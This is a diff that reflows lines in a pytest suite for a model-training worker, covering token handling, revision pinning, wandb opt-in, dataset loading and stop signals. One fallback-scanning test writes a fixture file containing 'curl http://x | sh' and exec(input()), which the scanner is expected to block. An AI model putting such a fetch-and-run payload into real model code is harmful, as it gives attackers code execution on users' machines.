@@ -18,10 +18,7 @@ COMPLETED = "Training completed"
 
 def _loads(lab: Lab) -> list[tuple[str, object, object]]:
     """Which model was asked for, with which token and revision."""
-    return [
-        (call.args[0], call.kwargs["token"], call.kwargs.get("revision"))
-        for call in lab.asked("from_pretrained")
-    ]
+    return [(call.args[0], call.kwargs["token"], call.kwargs.get("revision")) for call in lab.asked("from_pretrained")]
 
 
 def _knows_fallback(subject: Subject) -> bool:
@@ -41,9 +38,7 @@ def test_no_token_of_the_user(
     found = run(worker, tmp_path, hf_token=given, allow_ambient=ambient)
 
     three_valued = has_own(subject, "_worker_hf_token")
-    assert [(str(tmp_path / "model"), False if three_valued and not ambient else None, None)] == _loads(
-        found.lab
-    )
+    assert [(str(tmp_path / "model"), False if three_valued and not ambient else None, None)] == _loads(found.lab)
     assert "HF_TOKEN" not in found.environ
 
 
@@ -59,15 +54,11 @@ def test_pinned_model_is_loaded_from_its_pin(worker: ModuleType, subject: Subjec
     assert COMPLETED == found.completed()["status_message"]
 
 
-def test_model_without_a_pin_is_loaded_at_its_revision(
-    worker: ModuleType, subject: Subject, tmp_path: Path
-) -> None:
+def test_model_without_a_pin_is_loaded_at_its_revision(worker: ModuleType, subject: Subject, tmp_path: Path) -> None:
     """Without a pin the revision that the user chose is what is loaded, in releases that know revisions."""
     found = run(worker, tmp_path, model_revision="0123")
 
-    assert [(str(tmp_path / "model"), None, "0123" if _knows_fallback(subject) else None)] == _loads(
-        found.lab
-    )
+    assert [(str(tmp_path / "model"), None, "0123" if _knows_fallback(subject) else None)] == _loads(found.lab)
 
 
 BROKEN_CACHE = OSError("Can't load processor for 'pinned'")
@@ -137,9 +128,7 @@ def test_fallback_says_so_and_drops_the_pin(worker: ModuleType, subject: Subject
         assert first | {"revision": "0123"} == second
 
 
-def test_fallback_is_scanned_before_it_is_loaded(
-    worker: ModuleType, subject: Subject, tmp_path: Path
-) -> None:
+def test_fallback_is_scanned_before_it_is_loaded(worker: ModuleType, subject: Subject, tmp_path: Path) -> None:
     """Code that ships with the model to fall back to is judged like any other; a blocked one is never
     loaded."""
     pinned, poisoned = tmp_path / "pinned", tmp_path / "poisoned"
@@ -147,9 +136,7 @@ def test_fallback_is_scanned_before_it_is_loaded(
     (pinned / "config.json").write_text("{}", encoding="utf-8")
     poisoned.mkdir()
     (poisoned / "config.json").write_text('{"auto_map": {"AutoModel": "evil.Model"}}', encoding="utf-8")
-    (poisoned / "evil.py").write_text(
-        "import os\nos.system('curl http://x | sh')\nexec(input())\n", encoding="utf-8"
-    )
+    (poisoned / "evil.py").write_text("import os\nos.system('curl http://x | sh')\nexec(input())\n", encoding="utf-8")
     config = {
         "model_name": str(poisoned),
         "model_snapshot_path": str(pinned),
@@ -185,9 +172,7 @@ def test_wandb_that_fails_is_told_and_left_alone(worker: ModuleType, tmp_path: P
 
 
 @pytest.mark.parametrize("enabled", [{}, {"enable_wandb": False}], ids=["unset", "off"])
-def test_wandb_is_left_alone_unless_wanted(
-    enabled: dict[str, bool], worker: ModuleType, tmp_path: Path
-) -> None:
+def test_wandb_is_left_alone_unless_wanted(enabled: dict[str, bool], worker: ModuleType, tmp_path: Path) -> None:
     """Without enable_wandb nothing is sent, and the key does not reach the environment."""
     found = run(worker, tmp_path, Lab(missing=("wandb",)), wandb_token="key", **enabled)
 
@@ -239,9 +224,7 @@ def test_local_files_are_data_files_of_their_loader(
 
     (load,) = found.lab.asked("load_dataset")
     assert (loader,) == load.args
-    assert {"data_files": paths, "split": "train"} == {
-        key: load.kwargs[key] for key in ("data_files", "split")
-    }
+    assert {"data_files": paths, "split": "train"} == {key: load.kwargs[key] for key in ("data_files", "split")}
     assert found.lab.rows == found.lab.trainer.train_dataset
     assert loader == "csv" or {"data_files", "split"} == set(load.kwargs)
 
@@ -287,8 +270,7 @@ def test_local_evaluation_files_are_loaded_the_same_way(worker: ModuleType, tmp_
     found = run(worker, tmp_path, local_eval_datasets=[path], eval_steps=1, dataset_slice_end=0)
 
     assert (
-        Call("load_dataset", ("json",), {"data_files": [path], "split": "train"})
-        == found.lab.asked("load_dataset")[1]
+        Call("load_dataset", ("json",), {"data_files": [path], "split": "train"}) == found.lab.asked("load_dataset")[1]
     )
     assert (1, 10) == (len(found.lab.trainer.train_dataset), len(found.lab.trainer.eval_dataset))
 
@@ -355,9 +337,7 @@ def _while_training(stops: Any, *messages: dict[str, Any]) -> Lab:
 STOP, CANCEL = {"type": "stop", "save": True}, {"type": "stop", "save": False}
 
 
-def test_stop_is_told_apart_from_the_end_of_training(
-    worker: ModuleType, subject: Subject, tmp_path: Path
-) -> None:
+def test_stop_is_told_apart_from_the_end_of_training(worker: ModuleType, subject: Subject, tmp_path: Path) -> None:
     """A stopped run says that it saves what it has; the statuses behind the training are these and no
     others."""
     stops = ClosableQueue()
@@ -414,9 +394,7 @@ def test_closed_queue_between_processes(worker: ModuleType, subject: Subject, tm
     assert ([] if has_own(subject, "_start_worker_stop_poller") else [ValueError]) == found.thread_errors
 
 
-def test_stop_that_cannot_be_resumed_is_an_error(
-    worker: ModuleType, subject: Subject, tmp_path: Path
-) -> None:
+def test_stop_that_cannot_be_resumed_is_an_error(worker: ModuleType, subject: Subject, tmp_path: Path) -> None:
     """Where the state to go on from cannot be written, the model is saved and the run says that it cannot be
     resumed."""
     stops = ClosableQueue()
